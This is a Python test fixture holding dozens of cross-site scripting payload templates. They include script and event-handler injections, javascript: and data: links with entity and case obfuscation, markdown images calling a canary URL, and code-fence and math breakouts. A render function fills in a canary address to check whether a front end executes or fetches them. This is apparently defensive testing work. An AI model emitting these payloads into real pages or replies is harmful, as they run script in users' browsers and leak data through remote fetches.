"""Sixty replies that would run code or call home in a front end that trusts them.

Each, if it worked, sets `window.__pwned` or fetches `{canary}/<name>`; `render_sample` fills in the address. None
needs more than being shown, but for those whose name begins with `click_`. The code to be run holds no quote, space
or `=`, so that it stands in an attribute without quotes and in a link's target.
"""

import base64

_RUN = "Object.assign({window},{__pwned:/{name}/.source})"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_TEMPLATES: dict[str, str] = {
    # --- script and event handlers ---------------------------------------------------------------------
    "script": "Hello\n\n<script>{run}</script>\n\nbye",
    "script_upper_slash": "<SCRIPT/x>{run}</SCRIPT//>",
    "script_src": '<script src="{canary}/{name}"></script>',
    "img_onerror": '<img src=x onerror="{run}">',
    "img_onerror_inline": "See *this* <img src=x onerror={run}> and go on.",
    "img_onerror_slashes": '<img/src="x"/onerror="{run}"/>',
    "img_onerror_newline": "<img\nsrc=x\nonerror={run}\n>",
    "svg_onload": "<svg onload={run}>",
    "svg_script": "<svg><script>{run}</script></svg>",
    "svg_animate": "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "svg_use": '<svg><use href="{canary}/{name}#x"/><image href="{canary}/{name}"/></svg>',
    "mathml_style": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={run}>">',
    "body_onload": "<body onload={run}>",
    "details_ontoggle": "<details open ontoggle={run}><summary>x</summary></details>",
    "video_source": '<video autoplay onloadstart={run}><source src="{canary}/{name}"></video>',
    "audio_onerror": '<audio src="{canary}/{name}" onerror={run} autoplay></audio>',
    "input_autofocus": "<input autofocus onfocus={run}>",
    "marquee_onstart": "<marquee onstart={run}>x</marquee>",
    # --- frames, documents, forms ----------------------------------------------------------------------
    "iframe_src": '<iframe src="{canary}/{name}"></iframe>',
    "iframe_srcdoc": '<iframe srcdoc="<script>{run_in_parent}</script>"></iframe>',
    "iframe_javascript": '<iframe src="javascript:{run_in_parent}"></iframe>',
    "object_data": '<object data="{canary}/{name}"></object>',
    "embed_src": '<embed src="{canary}/{name}">',
    "form_autosubmit": '<form action="{canary}/{name}"><input id=f><script>document.forms[0].submit()</script></form>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url={canary}/{name}">',
    "base_href": '<base href="{canary}/{name}/">\n\n![x](pic.png)',
    "link_stylesheet": '<link rel="stylesheet" href="{canary}/{name}">',
    "style_import": '<style>@import url("{canary}/{name}"); * { display: none }</style>',
    "style_attribute": '<p style="background:url({canary}/{name})">x</p>',
    # --- images that call home -------------------------------------------------------------------------
    "image_markdown": "![a picture]({canary}/{name}?leak=1)",
    "image_reference": "![a picture][pic]\n\n[pic]: {canary}/{name} 'title'",
    "image_in_link": "[![badge]({canary}/{name})](https://example.org/)",
    "image_html_srcset": '<img srcset="{canary}/{name} 1x">',
    "image_in_table": "| a | b |\n|---|---|\n| ![x]({canary}/{name}) | <img src={canary}/{name}> |",
    "image_escaped_bang": "\\![x]({canary}/{name}) &#33;[y]({canary}/{name}) !\\\n[z]({canary}/{name})",
    "image_picture": '<picture><source srcset="{canary}/{name}"><img src="{canary}/{name}"></picture>',
    # --- links -----------------------------------------------------------------------------------------
    "click_javascript": "[click](javascript:{run})",
    "click_javascript_entity": "[click](java&#115;cript&colon;{run}) [two](&#x6a;avascript&#58;{run})",
    "click_javascript_space": "[a](<java\tscript:{run}>) [b](&Tab;javascript:{run}) [c](\x01javascript:{run})",
    "click_javascript_case": "[a](JaVaScRiPt:{run}) <javascript:{run}> [b][x]\n\n[x]: JAVASCRIPT:{run}",
    "click_vbscript_data": "[a](vbscript:{run}) [b](data:text/html;base64,{b64_page})",
    "image_data_svg": "![x](data:image/svg+xml;base64,{b64_svg})",
    "click_title_breakout": '[a](https://example.org/ "x\' onmouseover=\'{run}" ) [b](https://example.org/"onclick="{run})',
    # --- code, formulas and where they end -------------------------------------------------------------
    "math_backtick": "$ ` $\n<img src=x onerror={run}> `",
    "math_list_fence": "- a $\n  ```\n  $ <img src=x onerror={run}>\n  ```",
    "math_begin_end": "` \\begin{x} `\n\n```\n\\end{x}` <img src=x onerror={run}>\n```",
    "math_paren_fence": "`` \\\\( ``\n\n~~~html\n\\\\) `` <img src=x onerror={run}>\n~~~",
    "math_in_formula": "$$ a <img src=x onerror={run}> b $$ and $x<svg onload={run}>y$",
    "math_markers": "@@0@@ $<img src=x onerror={run}>$ `@@0@@ <img src=x onerror={run}>`",
    "math_href": "$\\href{javascript:{run}}{x}$ $\\style{background-image:url({canary}/{name})}{y}$",
    "fence_unclosed": "```html\n<img src=x onerror={run}>",
    "fence_short_close": "````\n```\n<img src=x onerror={run}>\n```\n<script>{run}</script>",
    "fence_mermaid": "```mermaid\n</pre><img src=x onerror={run}>\n```",
    "fence_info": '```"><img src=x onerror={run}>\ncode\n```\n\n```html onload={run}\n<b>\n```',
    # --- breaking out of what surrounds a reply --------------------------------------------------------
    "breakout_style": "</style></div><img src=x onerror={run}><style>",
    "breakout_pre": "    </code></pre><img src=x onerror={run}>\n\n`</code><svg onload={run}>`",
    "breakout_details": "</summary></details>\n\n<details open ontoggle={run}>\n\n</sub><img src=x onerror={run}>",
    "comment_cdata": "<!--><img src=x onerror={run}>-->\n<![CDATA[><svg onload={run}>]]>\n<?php ><svg onload={run}>?>",
    # --- characters that disguise ----------------------------------------------------------------------
    "control_characters": "\x00<\x00script>{run}</script>\x1b]8;;{canary}/{name}\x07x\x1b]8;;\x07\x9b31m\ud800 \udfff",
    "bidi_override": "photo\u202egnp.exe\u2066<img src=x onerror={run}>\u2069 \u2028<script>{run}</script>",
}

NAMES: tuple[str, ...] = tuple(_TEMPLATES)

BROWSER_TWELVE: tuple[str, ...] = (
    "script",
    "img_onerror",
    "svg_onload",
    "details_ontoggle",
    "iframe_srcdoc",
    "form_autosubmit",
    "style_attribute",
    "image_markdown",
    "image_reference",
    "click_javascript_entity",
    "math_list_fence",
    "breakout_style",
)
"""The kinds that issue after issue must hold in a real front end: script, handlers, link, SVG, frame, remote media."""


def render_sample(name: str, canary_url: str) -> str:
    """The text of one sample; `canary_url` is the address, without a slash at its end, that nobody may call."""
    run = {where: _RUN.replace("{window}", where).replace("{name}", name) for where in ("window", "parent", "opener")}
    page = f"<script>{run['opener']}</script>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run["window"]}"><image href="{canary_url}/{name}"/></svg>'
    filled = _TEMPLATES[name]
    for mark, value in (
        ("{run}", run["window"]),
        ("{run_in_parent}", run["parent"]),
        ("{canary}", canary_url),
        ("{name}", name),
        ("{b64_page}", _b64(page)),
        ("{b64_svg}", _b64(svg)),
    ):
        filled = filled.replace(mark, value)
    return filled
